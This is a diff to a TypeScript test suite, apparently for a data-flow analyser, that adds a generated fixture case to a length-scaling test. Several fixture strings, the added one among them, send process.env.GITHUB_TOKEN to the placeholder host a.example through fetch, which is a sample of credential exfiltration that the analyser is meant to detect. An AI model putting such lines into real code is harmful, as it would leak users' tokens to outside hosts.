@@ -141,6 +141,12 @@ describe('a file of four times the length', () => {
       (count) =>
         `const key = process.env.GITHUB_TOKEN;\nconst q: any = {};\nfetch('https://a.example/', { body: q.a0, method: 'POST' });\nfunction f(p: any, x: any) {\n${rows(count, (at) => `p.a${at} = x;\n`)}}\n${rows(count, () => 'f(q, key);\n')}`,
     ],
+    [
+      'names of a pattern that takes apart a call, and arguments of the call',
+      'a.ts',
+      (count) =>
+        `const { ${rows(count, (at) => `a${at}, `)}} = require(${rows(count, (at) => `'b${at}', `)});\nfetch('https://a.example/', { body: process.env.GITHUB_TOKEN });\n`,
+    ],
     ['items added to an array of a shell', 'a.sh', (count) => rows(count, () => 'a+=("$x")\n')],
     [
       'additions to an attribute in Python that its class also gives a value',
